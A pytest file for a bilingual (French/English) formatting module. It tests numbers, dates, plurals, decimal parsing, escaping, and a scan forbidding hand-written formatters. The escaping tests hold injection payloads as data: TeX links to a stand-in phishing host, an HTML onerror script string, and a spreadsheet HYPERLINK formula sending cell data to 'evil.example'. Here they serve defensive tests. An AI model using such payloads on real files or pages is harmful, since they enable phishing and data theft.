"""The formatting functions: hand-written expected strings in French and English.

The report, the apps and the command line all call :mod:`collective_impact.i18n.format`,
so one table of values checks what every part of the package prints; the last test
checks, by reading the package's source, that no other formatter is left.
"""

from __future__ import annotations

import datetime as dt
import html
import math
import re
from pathlib import Path

import numpy as np
import pandas as pd
import pytest

from collective_impact.i18n import catalogue
from collective_impact.i18n.format import (
    escape,
    format_count,
    format_date,
    format_month,
    format_number,
    format_percent,
    format_short_date,
    format_time,
    parse_decimal,
    spreadsheet_text,
)

N = "\u202f"  # narrow no-break space: French thousands, and before "%"
M = "\u2212"  # minus sign
PACKAGE = Path(__file__).resolve().parents[2] / "collective_impact"


@pytest.mark.parametrize(("value", "options", "fr", "en"), [
    # integers and decimals
    (0, {}, "0,00", "0.00"),
    (3, {"decimals": 0}, "3", "3"),
    (np.int64(42), {"decimals": 0}, "42", "42"),
    (3.456, {}, "3,46", "3.46"),
    (3.456, {"decimals": 1}, "3,5", "3.5"),
    # rounding: half to even on the stored value, as Python's own "{:.2f}"
    (2.675, {}, "2,67", "2.67"),  # stored as 2.67499999…
    (0.125, {}, "0,12", "0.12"),  # exactly half: to the even digit
    (0.375, {}, "0,38", "0.38"),
    # negatives: a true minus sign
    (-3.5, {"decimals": 1}, f"{M}3,5", f"{M}3.5"),
    (-1234.5, {"decimals": 1}, f"{M}1{N}234,5", f"{M}1,234.5"),
    # values rounding to zero: no "−0"
    (-0.004, {}, "0,00", "0.00"),
    (-0.4, {"decimals": 0}, "0", "0"),
    (-0.0, {"decimals": 1}, "0,0", "0.0"),
    # large numbers
    (1234567.891, {}, f"1{N}234{N}567,89", "1,234,567.89"),
    (1e9, {"decimals": 0}, f"1{N}000{N}000{N}000", "1,000,000,000"),
    (-98765432.1, {"decimals": 0}, f"{M}98{N}765{N}432", f"{M}98,765,432"),
    # as many decimals as the value has, at most `decimals`
    (68.5, {"trim": True}, "68,5", "68.5"),
    (18.0, {"trim": True}, "18", "18"),
    (0.333333, {"decimals": 3, "trim": True}, "0,333", "0.333"),
    # a change: a sign either way, none for zero
    (0.25, {"signed": True}, "+0,25", "+0.25"),
    (-0.25, {"signed": True}, f"{M}0,25", f"{M}0.25"),
    (0.001, {"signed": True}, "0,00", "0.00"),
    # text is shown as it is
    ("n/a", {}, "n/a", "n/a"),
])
def test_format_number(value, options, fr, en):
    assert format_number(value, "fr", **options) == fr
    assert format_number(value, "en", **options) == en


@pytest.mark.parametrize(("fraction", "options", "fr", "en"), [
    (0.77, {}, f"77{N}%", "77%"),
    (0, {}, f"0{N}%", "0%"),
    (1, {}, f"100{N}%", "100%"),
    (0.5, {"decimals": 1}, f"50,0{N}%", "50.0%"),
    (0.12345, {"decimals": 2}, f"12,35{N}%", "12.35%"),
    (-0.123, {}, f"{M}12{N}%", f"{M}12%"),
    (-0.004, {}, f"0{N}%", "0%"),  # rounds to zero: no "−0"
    (0.125, {}, f"12{N}%", "12%"),  # 12.5 to the even digit
    (12.345, {}, f"1{N}234{N}%", "1,234%"),
])
def test_format_percent(fraction, options, fr, en):
    assert format_percent(fraction, "fr", **options) == fr
    assert format_percent(fraction, "en", **options) == en


@pytest.mark.parametrize(("value", "long_fr", "long_en", "short_fr", "short_en", "month_fr", "month_en"), [
    # the first of a month: an ordinal in French
    (dt.date(2026, 10, 1), "1er octobre 2026", "1 October 2026", "01/10/2026", "2026-10-01", "oct. 2026", "Oct 2026"),
    (pd.Timestamp("2025-08-01"), "1er août 2025", "1 August 2025", "01/08/2025", "2025-08-01", "août 2025", "Aug 2025"),
    ("2024-09-01", "1er septembre 2024", "1 September 2024", "01/09/2024", "2024-09-01", "sept. 2024", "Sept 2024"),
    # other days: cardinals (11 is not "11er")
    (pd.Timestamp("2025-10-17"), "17 octobre 2025", "17 October 2025", "17/10/2025", "2025-10-17", "oct. 2025", "Oct 2025"),
    (dt.datetime(2024, 2, 29, 15, 30), "29 février 2024", "29 February 2024", "29/02/2024", "2024-02-29",
     "févr. 2024", "Feb 2024"),
    (np.datetime64("2023-12-11"), "11 décembre 2023", "11 December 2023", "11/12/2023", "2023-12-11",
     "déc. 2023", "Dec 2023"),
    (dt.date(2025, 7, 21), "21 juillet 2025", "21 July 2025", "21/07/2025", "2025-07-21", "juil. 2025", "Jul 2025"),
])
def test_format_dates(value, long_fr, long_en, short_fr, short_en, month_fr, month_en):
    assert (format_date(value, "fr"), format_date(value, "en")) == (long_fr, long_en)
    assert (format_short_date(value, "fr"), format_short_date(value, "en")) == (short_fr, short_en)
    assert (format_month(value, "fr"), format_month(value, "en")) == (month_fr, month_en)


def test_format_time():
    assert format_time(dt.datetime(2024, 3, 5, 14, 5, 3), "fr") == "14:05:03"
    assert format_time(pd.Timestamp("2024-03-05 09:00:00"), "en") == "09:00:00"


MISSING = [None, float("nan"), np.nan, np.float64("nan"), pd.NA, pd.NaT, np.datetime64("NaT")]
FORMATTERS = [format_number, format_percent, format_date, format_short_date, format_month, format_time]


@pytest.mark.parametrize("value", MISSING, ids=repr)
@pytest.mark.parametrize("formatter", FORMATTERS, ids=lambda f: f.__name__)
@pytest.mark.parametrize("lang", ["fr", "en"])
def test_missing_values(formatter, value, lang):
    assert formatter(value, lang) == "—"
    assert formatter(value, lang, missing="n.d.") == "n.d."


@pytest.mark.parametrize("value", MISSING, ids=repr)
def test_missing_count(value):
    assert format_count(value, "noun.partner", "fr") == "—"
    assert format_count(value, "noun.partner", "en", missing="") == ""


@pytest.mark.parametrize(("n", "fr", "en"), [
    (0, "0 partenaire", "0 partners"),  # French "one" covers 0
    (1, "1 partenaire", "1 partner"),
    (2, "2 partenaires", "2 partners"),
    (np.int64(2), "2 partenaires", "2 partners"),
    (1.0, "1 partenaire", "1 partner"),
    (1234, f"1{N}234 partenaires", "1,234 partners"),
    (1_000_000, f"1{N}000{N}000 partenaires", "1,000,000 partners"),  # French "many": not listed, "other"
])
def test_format_count(n, fr, en):
    assert format_count(n, "noun.partner", "fr") == fr
    assert format_count(n, "noun.partner", "en") == en


def test_plural_forms_of_a_compound_noun():
    assert [format_count(n, "noun.vigilance", "fr") for n in (0, 1, 2)] == [
        "0 point de vigilance", "1 point de vigilance", "2 points de vigilance"]
    assert [format_count(n, "noun.vigilance", "en") for n in (0, 1, 2)] == [
        "0 points of vigilance", "1 point of vigilance", "2 points of vigilance"]


def test_every_noun_has_one_and_other_in_both_languages():
    nouns = {key: forms for key, forms in catalogue().items() if key.startswith("noun.")}
    assert len(nouns) > 10
    for key, forms in nouns.items():
        for lang in ("fr", "en"):
            assert {"one", "other"} <= set(forms[lang]), key


def test_unknown_language_is_refused():
    with pytest.raises(ValueError, match="fr, en"):
        format_number(1, "de")


# ---------------------------------------------------------------------------- parse_decimal

@pytest.mark.parametrize(("typed", "expected"), [
    ("12,5", 12.5), ("12.5", 12.5), ("-3,25", -3.25), ("\u22123,25", -3.25), ("+7", 7.0), (",5", 0.5),
    ("  42  ", 42.0), ("1e3", 1000.0), ("1,5E-2", 0.015),
    # thousands separated by spaces of every width
    ("1 234,5", 1234.5), ("1\u00a0234,5", 1234.5), ("1\u202f234,5", 1234.5), ("1\u2009234,5", 1234.5),
    ("1\u2007234", 1234.0), ("1\u2008234", 1234.0), ("1\u200a234", 1234.0), ("1 234 567,89", 1234567.89),
    # with a comma and a dot, the last one is the decimal mark
    ("1.234,5", 1234.5), ("1,234.5", 1234.5), ("1.234.567,8", 1234567.8), ("1,234,567.8", 1234567.8),
    # invisible characters are dropped
    ("\u200b42", 42.0), ("4\ufeff2", 42.0),
    # numbers are taken as they are
    (7, 7.0), (2.25, 2.25), (np.int64(3), 3.0), (np.float64(2.5), 2.5),
])
def test_parse_decimal(typed, expected):
    assert parse_decimal(typed) == expected


@pytest.mark.parametrize("typed", ["", "   ", "\u202f", "\u200b", None])
def test_parse_decimal_blank(typed):
    assert parse_decimal(typed) is None


@pytest.mark.parametrize("typed", [
    "douze", "12,5 kg", "12 %", "3 €", "1,2,3", "1.2.3", "1,234,567", "1,5,", "--3", "0x10", "1_000",
    "nan", "inf", "-inf", "1e999", math.inf, math.nan, True, np.bool_(False),
])
def test_parse_decimal_refuses(typed):
    with pytest.raises(ValueError, match="number"):
        parse_decimal(typed)


# ---------------------------------------------------------------------------- escaping

# What MathJax (run by JupyterLab and Voila over Markdown and HTML outputs) typesets: a
# pair of "$", or "\(", "\[", "\begin{" with processEscapes/processEnvironments on. It
# looks within one run of text; a tag ends the run.
_TEX_START = re.compile(r"\$[^$]*\$|\\[(\[]|\\begin\s*\{")
PAYLOADS = ["$\\href{https://evil.example/phish}{x}$", "\\style{color:red}{x}", "$$x$$", "\\(x\\)", "\\[x\\]",
            "\\begin{equation}x\\end{equation}", "Taux $\\foo{x}$", "\\$x\\$", "a\\\\b"]


def _runs(page: str) -> list[str]:
    """The runs of text a browser would show between tags, entities decoded."""
    return [html.unescape(run) for run in re.split(r"<[^>]*>", page)]


@pytest.mark.parametrize("text", ["Quartier Nord", "L'Île-Saint-Denis", "Association « Vivre ensemble » 93",
                                  "Café des parents (école Jaurès)", "12,5 %"])
def test_escape_leaves_ordinary_text_as_it_is(text):
    assert escape(text) == text
    assert escape(text, markdown=False) == text


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("markdown", [True, False])
def test_escape_leaves_no_tex_for_mathjax(payload, markdown):
    from nbconvert.filters.markdown_mistune import markdown2html_mistune

    escaped = escape(payload, markdown=markdown)
    # the source that JupyterLab's math extraction and the Markdown renderer read: no "$", no backslash of the data
    assert "$" not in escaped
    assert not re.search(r"\\(?![`*_\[\]{}|~#!:])", escaped)  # only the backslashes of Markdown escapes
    page = markdown2html_mistune(escaped) if markdown else escaped
    runs = _runs(page)
    assert not [run for run in runs if _TEX_START.search(run)]
    assert "".join(runs).strip() == payload  # the reader sees the text as typed


def test_escape_in_html_writes_no_markdown_escape():
    assert escape("*a* [b] $c$ \\d", markdown=False) == (
        "*a* [b] <span>&#36;</span>c<span>&#36;</span> <span>&#92;</span>d")
    assert escape("<img src=x onerror=alert(1)>", markdown=False) == "&lt;img src=x onerror=alert(1)&gt;"
    assert escape(None, markdown=False) == "—"


@pytest.mark.parametrize(("value", "expected"), [
    ('=HYPERLINK("http://evil.example/?x="&A1,"x")', '\'=HYPERLINK("http://evil.example/?x="&A1,"x")'),
    ("+33 1 23", "'+33 1 23"), ("-A1", "'-A1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\r=1", "'\r=1"),
    ("Quartier = Nord", "Quartier = Nord"), ("", ""), ("'=déjà", "'=déjà"),
    (-3.5, -3.5), (-2, -2), (None, None),
])
def test_spreadsheet_text(value, expected):
    assert spreadsheet_text(value) == expected
    assert type(spreadsheet_text(value)) is type(expected)


# ---------------------------------------------------------------------------- one formatter

# Patterns of a number, percent or date formatted by hand. Everything shown to a user goes
# through collective_impact.i18n.format, so that the same value prints the same in the
# report, the apps and the command line.
FORBIDDEN = {
    "strftime": re.compile(r"\.strftime\("),
    "f-string number format": re.compile(r"\{[^{}'\"]*:[+ ]?[,_]?(\.\d+)?[fFeEgG%]\}"),
    "f-string date format": re.compile(r"\{[^{}'\"]*:%[^{}]*\}"),
    "hand decimal comma": re.compile(r"""\.replace\(\s*["']\.["']\s*,\s*["'],["']\s*\)"""),
    "hand thousands": re.compile(r"""\.replace\(\s*["'],["']\s*,\s*["'](\\u202f|\\u00a0|\\xa0| |\u202f|\u00a0)["']\s*\)"""),
    "space before %": re.compile(r"""(\\u202f|\\u00a0|\\xa0|\u202f|\u00a0)%"""),
    "hand plural": re.compile(r"""t\(\s*f?["'][a-z_.]*\bnoun\.|< 2 if lang == "fr"|== 1 if lang"""),
    "formatter defined": re.compile(r"^\s*def _?(format_(number|percent|date|short_date|month|decimal|count|time)|"
                                    r"_number|_percent|_date|_tick_number)\("),
}
# Machine formats (storage, file metadata, identifiers), never shown as a date or number to
# a user: (file, text of the line) -> why.
EXCEPTIONS = {
    ("store/sql.py", "series.dt.strftime(_DATE_FORMAT)"): "dates stored in SQLite as ISO text",
    ("io/writing.py", '_FIXED_TIME.strftime("%Y-%m-%dT%H:%M:%SZ")'): "the workbook's XML metadata time stamp",
    ("apps/saisie_entries.py", 'stamp = f"{day:%Y%m%d}-"'): "part of a record reference, not a date shown",
    ("report/text.py", "_BEFORE_PERCENT.sub("):
        "French typography of a sentence already written (a \"80 %\" of the catalogue), no number formatted",
}


def _formatter_patterns() -> list[str]:
    found = []
    for path in sorted(PACKAGE.rglob("*.py")):
        relative = path.relative_to(PACKAGE).as_posix()
        if relative == "i18n/format.py":
            continue
        for number, line in enumerate(path.read_text(encoding="utf-8").splitlines(), start=1):
            for name, pattern in FORBIDDEN.items():
                if pattern.search(line) and not any(file == relative and text in line for file, text in EXCEPTIONS):
                    found.append(f"{relative}:{number}: {name}: {line.strip()}")
    return found


def test_the_patterns_catch_hand_formatting():
    caught = ['x.strftime("%d/%m/%Y")', 'f"{value:.2f}"', 'f"{v:+,.1f}"', 'f"{rate:.0%}"', "f'{x:g}'",
              'f"{day:%d/%m}"', 'text.replace(".", ",")', 'text.replace(",", "\\u202f")', 'f"{n}\\u00a0%"',
              "def _percent(value, lang):", 'singular, plural = t(f"steps.noun.{noun}", lang).split("|")',
              'one = value < 2 if lang == "fr" else value == 1']
    for line in caught:
        assert any(p.search(line) for p in FORBIDDEN.values()), line
    kept = ['f"{number:03d}"', 'f"{name!r}"', 'format_number(x, lang, decimals=2)', '"{:>10}".format(x)']
    for line in kept:
        assert not any(p.search(line) for p in FORBIDDEN.values()), line


def test_no_other_formatter_in_the_package():
    assert _formatter_patterns() == []


def test_terminal_text_shows_control_and_invisible_characters_by_their_code():
    from collective_impact.i18n.format import terminal_text

    assert terminal_text("Quartier Nord – Les Tilleuls") == "Quartier Nord – Les Tilleuls"
    assert terminal_text("a\x1b[31mb\x07\u202ec\ufeff") == "a⟨U+001B⟩[31mb⟨U+0007⟩⟨U+202E⟩c⟨U+FEFF⟩"
